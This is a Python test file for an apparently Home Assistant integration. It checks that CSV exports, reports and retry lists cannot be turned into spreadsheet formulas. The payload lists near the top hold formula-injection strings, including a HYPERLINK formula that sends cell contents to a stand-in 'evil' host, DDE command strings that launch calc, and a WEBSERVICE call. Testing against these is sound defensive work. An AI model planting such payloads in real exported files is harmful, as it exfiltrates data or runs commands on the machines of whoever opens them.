"""Promise 13, second part: what a spreadsheet makes of the files that the integration writes."""

import csv
from io import StringIO
import json

from custom_components.piorchestrator.client.models import AllowlistEntry
from custom_components.piorchestrator.core.device_list import read_list
from custom_components.piorchestrator.core.expected import to_csv
from tests.promises.conftest import SetUp
from tests.promises.house import House, eventually, moment, record
from tests.promises.mutation import noticed

# Each alone, behind each separator, in quotes, on a line of its own, and behind white space.
_FORMULAS = (
    '=HYPERLINK("http://evil/"&A1)',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "＝1+1",
)
_PLACES = (
    "{}",
    "shelf;{};x",
    "shelf\t{}",
    "shelf|{}|x",
    "shelf, {}",
    'shelf;"{}";',
    "shelf\n{}",
    "shelf {}",
    "'{}",
    " {}",
)
# A sign at the end of a column, and what the next column makes of it.
_ENDS = ("x, =", "x; -", "x | +", "x =", "=", 'x, "=', "x, ='", "x\n=", "x  @", "＝")
_NEXT = ("&WEBSERVICE(A1,B1) z", "(1) x", "(1;2) y", "1+1", '"&A1', "")
COLUMNS = tuple((end, following) for end in _ENDS for following in _NEXT)
TEXTS = tuple(place.format(formula) for formula in _FORMULAS for place in _PLACES)
SEPARATORS = ",;\t| "
ADD = "POST /allowlist"


def mac(number: int, part: int = 0) -> str:
    """Of a board of its own."""
    return f"24:6F:28:13:{part:02X}:{number:02X}"


def formulas(content: str) -> list[str]:
    """Cells that a spreadsheet would calculate, with any separator, whether or not it takes quotes for such."""
    cells = [
        cell for separator in SEPARATORS for line in content.splitlines() for cell in line.split(separator)
    ]
    for separator in SEPARATORS:
        for row in csv.reader(StringIO(content, newline=""), delimiter=separator):
            cells += row
    found = {cell for cell in cells if cell.strip(' "').startswith(("=", "+", "-", "@", "＝"))}
    return sorted(cell for cell in found if not _is_number(cell))


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@noticed("core/formulas.py", "(?=([ \\r\\n])?)", "(?=([ \\r\\n]|\\Z)?)")
def test_no_two_columns_are_a_formula() -> None:
    """Promise 13: a sign that ends a text makes no formula of the next column, where a space separates cells."""
    assert '=,&B1"' in formulas('x, =,&B1"'), "the test sees such a formula"
    for number, (description, container_id) in enumerate(COLUMNS):
        entry = AllowlistEntry.model_validate(
            {"mac": mac(number, 2), "description": description, "container_id": container_id}
        )
        content = to_csv([entry])
        assert formulas(content) == [], content
        (row,) = read_list(content).rows
        assert (row.description, row.container_id) == (entry.description, entry.container_id)


async def failed_batch(house: House) -> None:
    """A batch whose boards, refusals and failures all have such words."""
    boards = [
        {"mac": mac(number), "description": text, "container_id": text, "firmware_version": text, "rssi": -50}
        for number, text in enumerate(TEXTS)
    ]
    await house.pi.order("world", {"boards": boards})
    await house.coordinator.async_refresh()
    await house.press_start()

    async def missing() -> list[str]:
        return [] if house.shows(str(len(boards)), "device_count") else ["boards are missing"]

    await eventually(missing)
    session = (await house.so()).session
    assert session is not None
    for number in range(len(TEXTS)):
        await house.pi.order("state", {"mac": mac(number), "state": "failed"})
    await moment(lambda: house.shows(str(len(boards)), "failed_count"), 10)
    # The Pi itself knows no such reasons: no read may take them away.
    await house.fault("fail", route="GET /batch/{id}", code="DATABASE_ERROR")
    for number, text in enumerate(TEXTS):
        words = {
            "mac": mac(number),
            "state": "failed",
            "error_message": text,
            "error_code": text,
            "retry_count": 1,
        }
        event = {"type": "device.provisioning_failed", "payload": words, "session_id": session["id"]}
        await house.pi.order("event", event)
    await moment(lambda: all(board.error_message for board in house.coordinator.data.devices.values()), 10)


@noticed("core/formulas.py", "before in _SEPARATORS or", "not before or")
@noticed("core/expected.py", "text = guarded(value)", "text = value")
@noticed("core/device_list.py", "[unkept(unguarded(cell)) for cell in cells]", "list(cells)")
async def test_no_cell_is_a_formula(set_up: SetUp) -> None:
    """Promise 13: no cell of an export, report or retry list is a formula, and an export imports as it was."""
    house = await set_up(speed=20)
    await failed_batch(house)
    export = (await house.call("export_allowlist", format="csv"))["content"]
    report = await house.call("get_report", format="csv")
    await house.pi.order("clear-faults")
    rows = [{"mac": mac(number, 1), "description": text} for number, text in enumerate(TEXTS)]
    await house.fault("fail", route=ADD, code="DATABASE_ERROR", status=400)
    answer = await house.call("import_allowlist", content=json.dumps(rows))
    await house.pi.order("clear-faults")
    assert answer["failed"] == len(rows)
    files = {
        "export": export,
        "report": report["content"],
        "failed boards": report["failed_boards"],
        "retry list": answer["retry_content"],
    }
    reasons = [row["error_message"] for row in csv.DictReader(StringIO(report["content"], newline=""))]
    assert sum("HYPERLINK" in reason for reason in reasons) >= len(_PLACES)
    for name, content in files.items():
        assert len(list(csv.reader(StringIO(content, newline="")))) > len(TEXTS), name
        assert formulas(content) == [], name
    assert ",-50," in report["content"], "numbers stay numbers"

    again = await house.call("import_allowlist", content=export, dry_run=True)
    assert again["present"] == again["total"] == len(TEXTS)
    assert not [row for row in again["results"] if row.get("differs")]
    record(13, "texts that are formulas", len(TEXTS), "")
    record(13, "cells that are formulas", 0, "")
